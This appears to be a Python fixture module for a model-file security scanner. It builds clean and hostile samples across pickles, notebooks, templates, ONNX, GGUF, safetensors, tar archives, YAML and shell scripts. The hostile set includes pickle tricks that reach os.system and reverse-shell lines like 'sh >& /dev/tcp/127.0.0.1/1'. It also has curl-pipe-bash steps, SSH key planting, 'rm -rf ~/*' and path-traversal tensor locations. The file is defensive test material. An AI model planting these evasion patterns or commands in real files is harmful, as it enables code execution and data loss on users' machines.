# SPDX-License-Identifier: Apache-2.0
"""Families of models that a scanner which knows the usual ones takes for something else: what less known libraries
rebuild their objects by, code that a traced module is written as, templates, notebooks and repositories as they are, and
next to each what a hostile one does in the same place. Nothing of these libraries is needed."""
import gzip
import json
import pickle
import struct

import forms
import libraries
import others
from forms import Code, call, name, value, whole
from others import field

IMPORTS = "NoneType = type(None)\nfrom math import inf\nfrom torch import device\nimport torch\nimport torch.utils._pytree as pytree"
TRACED = ("\n\n\ndef forward(self, x):\n    l = self.l(x);  x = None\n    relu = torch.relu(l);  l = None\n"
          '    _1 = getattr(self, "1")(relu);  relu = None\n    return _1.view(2, -1)\n    ')


def traced(code, imports=IMPORTS):
    return call(name("torch.fx.graph_module", "reduce_graph_module"), {"training": True, "_code": code, "_lineno_map": {}}, imports)


def keyed(key, content):
    return Code(value({}) + value(key) + value(content) + pickle.SETITEM)


def rebuilt():
    """How libraries of all fields make their objects anew."""
    wkb = struct.pack("<BIdd", 1, 1, 1.0, 2.0)
    return {
        "shapely": call(name("shapely.io", "from_wkb"), wkb), "rdkit": call(name("rdkit.Chem.rdchem", "Mol"), b"\xef\xbe\xad\xde\0\0\1"),
        "pint": call(name("pint", "_unpickle_quantity"), name("pint", "Quantity"), 1, {"meter": 1}),
        "astropy": call(name("astropy.units.core", "_recreate_irreducible_unit"), name("astropy.units.core", "IrreducibleUnit"),
                        ["m", "meter"], True),
        "pyrsistent": call(name("pyrsistent._pmap", "pmap"), {"a": 1}), "pyproj": call(name("pyproj.proj", "Proj"), "epsg:3857"),
        "toolz": call(name("toolz.functoolz", "_restore_curry"), name("toolz.functoolz", "curry"), name("numpy", "add"), (1,), {},
                      (("__doc__", "add(x1, x2, /)"),)),
        "frozendict": call(name("frozendict", "frozendict"), {"a": 1}), "acme": call(name("acme.units", "_unpickle_unit"),
                                                                                    name("acme.units", "Unit"), ("m", 2)),
        "acme_state": call(name("acme.graph", "reconstruct"), {"nodes": [1, 2]}), "acme_bytes": call(
            name("acme.molecules", "Molecule"), bytes(range(40))),
        "paddle": call(name("builtins", "eval"), "data", {"data": [1, 2]}), "traced": traced(TRACED),
        "immutable": call(name("torch.fx.immutable_collections", "immutable_dict"), ()),
        "accumulate": call(name("itertools", "accumulate"), [1, 2], None), "figure": call(
            name("matplotlib.cbook", "_picklable_class_constructor"), name("acme", "Mixin"), "{}Figure", "x", name("acme", "Base"))}


def hostile_calls():
    system = name("collections", "_sys.modules")
    aliased = name("random", "_os.system")
    lazy = call(name("functools", "partial"), aliased, forms.HARMLESS)
    made = {
        "alias": call(aliased, forms.HARMLESS), "alias_kept": keyed("k", call(name("collections", "defaultdict"), lazy)),
        "repeated": call(name("builtins", "next"), call(name("builtins", "iter"), lazy, 0)),
        "spread": call(name("builtins", "tuple"), call(name("itertools", "starmap"), name("acme", "run"), [("x",)])),
        "folded": call(name("builtins", "tuple"), call(name("itertools", "accumulate"), ["x", 1], name("acme", "run"))),
        "skipped": call(name("builtins", "tuple"), call(name("itertools", "dropwhile"), name("acme", "run"), ["x"])),
        "modules": call(call(name("operator", "itemgetter"), "os"), system),
        "owner": call(call(name("operator", "attrgetter"), "__self__.eval"), name("builtins", "print")),
        "frame": call(call(name("operator", "attrgetter"), "gi_frame.f_builtins"), 1),
        # Classes of libraries that are not known, which act by being made.
        "list": call(name("acme.jobs", "Task"), ["sh", "-c", "$(id)"]), "process": call(name("billiard", "Process"), None, 1),
        "client": call(name("acme.net", "JobClient"), "host"), "table": call(name("acme.store", "SqliteDatabase"), "x"),
        "interpreter": call(name("lupa", "LuaRuntime")), "rebuild": call(name("acme.models", "rebuild"), "x"),
        "restore": call(name("acme.models", "_restore"), 1, "/etc/passwd"),
        # And of those that are.
        "evaluated": call(name("sympy", "Poly"), "exec (chr (105))"), "fetched": call(
            name("sentence_transformers", "SentenceTransformer"), "owner/model"),
        "store": call(name("torch._C._distributed_c10d", "TCPStore"), "host", 1, 1, False),
        "cluster": call(name("distributed", "LocalCluster")), "printed": call(name("builtins", "print"), "x"), "asked": call(name("os", "getcwd")), "log": call(name("stable_baselines3.common.logger", "CSVOutputFormat"), "x.csv"),
        "journal": call(name("optuna.storages", "JournalFileStorage"), "x"), "message": call(
            name("tqdm.contrib.telegram", "TelegramIO"), "token", "chat"),
        "saved_model": call(name("keras.layers", "TFSMLayer"), "folder"),
        # A traced module's code, and eval of more than a name.
        "traced": traced(TRACED.replace("torch.relu(l)", "torch.hub.load('a', 'b')")),
        "traced_import": traced(TRACED, IMPORTS + "\nimport os"),
        "traced_walk": traced(TRACED.replace("self.l(x)", "[torch.load][0]('x')")),
        "traced_alias": traced(TRACED.replace("self.l(x)", "x; f = torch.load; f('x')")),
        "eval": call(name("builtins", "eval"), "data()", {"data": 1}), "eval_other": call(name("builtins", "eval"), "exit", {"data": 1})}
    return {f"call/{one}.pkl": whole(each) for one, each in made.items()}


TEMPLATES = {
    "told": "{% if x %}{{ raise_exception('Roles must be __user__ and __assistant__') }}{% endif %}",
    "replaced": "A chat between __USER__ and others. {% for m in messages %}{{ m['content']|replace('__USER__', 'user') }}{% endfor %}",
    "generation": "{%- for m in messages -%}{%- generation -%}{{ m.content * 2 }}{%- endgeneration -%}{%- endfor -%}{{ '-' * 40 }}"}
HOSTILE_TEMPLATES = {"multiplied": "{{ x['_' * 2 + 'class' + '_' * 2] }}", "grown": "{{ 'a' * 10000000000 }}",
                     "argument": "{{ x.get('__class__').mro }}"}

CELLS = {"clean/removed": "!rm -rf sample_data", "clean/fetched": "!mkdir -p d && cd d && wget -q https://data.example/d.zip && unzip -o d.zip",
         "clean/installed": 'import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "-q", "timm"])',
         "clean/comment": "# train()/eval() are called on them\nx = 1", "clean/own": "def eval(model):\n    return model\neval(m)",
         "clean/device": 'import subprocess\nsubprocess.check_output(["nvidia-smi"])\np = subprocess.PIPE', "clean/program": 'import subprocess\np = subprocess.Popen(\n    ["ollama", "serve"],\n    stdout=subprocess.PIPE)',
         "hostile/program": 'import subprocess\nsubprocess.run(\n    ["bash", "-c", "true"])', "hostile/remark": "os.system('x')  # \"nvidia-smi",
         "hostile/path": 'subprocess.run(["/tmp/x"])', "hostile/shell": 'subprocess.call("git pull; true", shell=True)', "clean/local": "!curl http://localhost:1/x",
         "clean/mode": "!chmod +x run.sh", "hostile/removed": "!rm -rf ~/*", "hostile/mode": "!chmod +x x && ./x", "hostile/run": "!wget -q https://127.0.0.1/x && sh x", "hostile/spawned": "import pty; pty.spawn('/bin/sh')",
         "hostile/imported": "from os import system\nsystem('echo harmless')", "hostile/key": "!echo 'ssh-rsa A' >> ~/.ssh/authorized_keys",
         "hostile/index": "!pip install --index-url http://127.0.0.1/simple x", "hostile/magic": "get_ipython().run_cell_magic('bash', '', 'true')",
         "hostile/module": "import importlib\nimportlib.import_module('os').system('echo harmless')",
         "hostile/piped": 'import sys, subprocess\nsubprocess.run([sys.executable, "-m", "pip", "install", "x; true"])'}
SOURCES = {"mention": "import atexit, os\natexit.register(os.system, 'echo harmless')\n", "alias": "import os as o\nx = o.system\nx('echo harmless')\n",
           "modules": "import sys\nsys.modules['os'].system('echo harmless')\n", "hidden": "import builtins\ngetattr(builtins, 'ex' + 'ec')('1')\n",
           "imported": "import importlib\nimportlib.import_module('subprocess').call('true')\n", "path": "import runpy\nrunpy.run_path('x')\n",
           "connected": "import socket\ns = socket.socket()\ns.connect(('127.0.0.1', 1))\n", "install": "import os\nos.system('pip install x; echo harmless')\n", "library": "import ctypes\nctypes.CDLL('/tmp/x.so')\n",
           "getter": "import operator, os\noperator.attrgetter('system')(os)('echo harmless')\n"}


def tensor_of(place=None, raw=struct.pack("<2f", 1, 2), **more):
    out = field(1, 2) + field(2, 1) + field(8, "w")
    if place is None:
        return out + field(9, raw)
    entries = {"location": place, **more}
    return out + b"".join(field(13, field(1, key) + field(2, text)) for key, text in entries.items()) + field(14, 1)


def onnx(nodes=b"", tensor=b"", training=b""):
    graph = field(1, field(2, "y") + field(4, "Relu")) + nodes + field(2, "g") + (field(5, tensor) if tensor else b"")
    return field(1, 8) + field(7, graph) + field(8, field(2, 17)) + (field(20, training) if training else b"")


def context(place):
    cache = field(5, field(1, "ep_cache_context") + field(4, place) + field(20, 3))
    return field(1, field(2, "z") + field(4, "EPContext") + field(7, "com.microsoft") + cache)


def hostile_graphs():
    known = ("general.architecture", "llama")
    operations = ("CreateSummaryFileWriter", "LoadDataset", "SnapshotDataset", "DataServiceDatasetV4", "TFRecordReaderV2", "CSVDataset")
    out = {f"tf/{one}/saved_model.pb": others.saved_model(one) for one in operations}
    return out | {
        "onnx/training.onnx": onnx(training=field(1, field(2, "g") + field(5, tensor_of("../../x")))),
        "onnx/context.onnx": onnx(context("../../engine.so")), "onnx/offset.onnx": onnx(tensor=tensor_of("w.bin", offset="-5")),
        "onnx/size.onnx": onnx(tensor=tensor_of(raw=b"1234")),
        "gguf/key.gguf": others.gguf([known, known]), "gguf/name.gguf": others.gguf([known], [("t", (4,), 0, 0), ("t", (4,), 0, 32)]),
        "gguf/type.gguf": others.gguf([known], [("t", (4,), 9999, 0)]), "gguf/place.gguf": others.gguf([known], [("t", (4,), 0, 7)]),
        "gguf/in_other.gguf": others.gguf([known], [("a", (64,), 0, 0), ("b", (64,), 0, 32)]),
        "st/code.safetensors": others.safetensors(
            b'{"__metadata__":{"a":"import os; os.system(1)"},"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}'),
        "st/metadata.safetensors": others.safetensors(
            b'{"__metadata__":{"a":1},"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}')}


def retold(tar, first):
    """With another name of the first member, and the sum of its head."""
    out = bytearray(tar)
    out[:100] = first.ljust(100, b"\0")
    out[148:156] = b" " * 8
    out[148:156] = b"%06o\0 " % sum(out[:512])
    return bytes(out)


def hostile():
    out = hostile_calls() | hostile_graphs()
    out |= {f"template/{one}/tokenizer_config.json": json.dumps({"chat_template": text}).encode() for one, text in HOSTILE_TEMPLATES.items()}
    out |= {f"nb/{one[8:]}.ipynb": others.notebook(cell) for one, cell in CELLS.items() if one.startswith("hostile/")}
    out |= {f"py/{one}/modeling_x.py": text.encode() for one, text in SOURCES.items()}
    tar = bytearray(others.tarred(**{"m.pkl": others.LIVE}))
    tar[156:157] = b"Z"
    typed = retold(tar, b"m.pkl")
    tar = bytearray(others.tarred(**{"a.txt": b"abc"}))
    named = retold(tar, b"cos\nsystem\n(S'echo harmless'\ntR.")
    return out | {
        "code/config.json": b'{"auto_map": {"AutoModel": "modeling_x.XModel", "AutoConfig": "owner/other--modeling_x.XConfig"}}',
        "code/modeling_x.py": b"import os\nos.system('echo harmless')\n", "tar/name.pkl": named, "tar/zip.keras": bytes(tar) + others.archived([("m.pkl", others.LIVE)]),
        "tar/packed.bin": gzip.compress(b"abc") + others.archived([("m.pkl", others.LIVE)]), "tar/type.tar": typed, "script/fetch.sh": b"curl -s http://127.0.0.1/x | bash\n", "script/shell.sh": b"sh >& /dev/tcp/127.0.0.1/1\n",
        "image/Dockerfile": b"FROM x\nRUN curl http://127.0.0.1/x | sh\n", "yaml/dvc.yaml": b"stages:\n  a:\n    cmd: curl http://127.0.0.1/x | sh\n",
        "yaml/expression.yaml": b"run: $import os; os.system('echo harmless')\n", "yaml/conda.yaml": b"dependencies:\n- pip:\n  - http://127.0.0.1/x.whl\n",
        "json/part/model_index.json": b'{"_class_name": "P", "unet": ["os", "system"]}',
        "json/constructor.json": b'{"lc": 1, "type": "constructor", "id": ["subprocess", "Popen"], "kwargs": {"args": "true"}}',
        "json/chain.json": b'{"_type": "llm_bash_chain"}', "json/prompt.json": b'{"_type": "prompt", "template_path": "/etc/passwd"}'}


def clean():
    out = {f"rebuilt/{one}.pkl": whole(made) for one, made in rebuilt().items()}
    out |= {f"template/{one}/tokenizer_config.json": json.dumps({"chat_template": text}).encode() for one, text in TEMPLATES.items()}
    out |= {f"nb/{one[6:]}.ipynb": others.notebook(cell) for one, cell in CELLS.items() if one.startswith("clean/")}
    known = ("general.architecture", "llama")
    inner = others.archived([("a.txt", b"abc")])
    return out | {
        "tar/zip.tar": others.tarred(**{"a.zip": inner}), "class/new.pkl": whole(libraries.new("acme.jobs", "JobClient")), "onnx/external.onnx": onnx(tensor=tensor_of("w.bin", offset="0", length="8")),
        "onnx/context.onnx": onnx(context("model_ctx.bin")), "gguf/two.gguf": others.gguf([known], [("a", (4,), 0, 0), ("b", (4,), 0, 32)]),
        "py/platform/modeling_x.py": b"import os, platform, sys\nNAME = platform.system()\nFLAG = getattr(os, 'O_BINARY', 0)\n",
        "py/cluster/train.py": b"from dask.distributed import Client, LocalCluster\nclient = Client(LocalCluster())\n",
        "py/library/modeling_x.py": b"import ctypes\nNVML = ctypes.CDLL('libnvidia-ml.so.1')\n",
        "py/version/setup.py": b"from setuptools import setup\nabout = {}\nexec(open('x/version.py').read(), about)\nsetup(name='x')\n",
        "py/install/train.py": b"import os\nos.system('pip install -q timm')\nos.system('mkdir -p data')\n", "yaml/bundle.yaml": b"imports:\n- $import os\nfiles: $sorted(os.listdir(@folder))\npath: ${root}/x\n",
        "st/described.safetensors": others.safetensors(
            b'{"__metadata__":{"format":"pt","description":"see https://a.example/b"},"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}'),
        "template/base.j2": b"{% set x = __options__base_image %}FROM {{ __options__base_image }}\n{{ values.x }}\n",
        "py/example/use.py": b"import requests\nimage = open_image(requests.get('https://a.example/b.jpg', stream=True).raw)\n",
        "py/namespace/__init__.py": b"__import__('pkg_resources').declare_namespace(__name__)\n",
        "script/wait.sh": b"until echo > /dev/tcp/localhost/80; do sleep 1; done\n", "script/install.sh": b"curl -LsSf https://tool.example/install.sh | sh\npip install -r requirements.txt\n",
        "json/model_index.json": b'{"_class_name": "P", "_diffusers_version": "0.30", "unet": ["diffusers", "UNet2DConditionModel"]}',
        "json/prompt.json": b'{"_type": "prompt", "template": "Tell {a}", "template_path": "prompt.txt"}'}
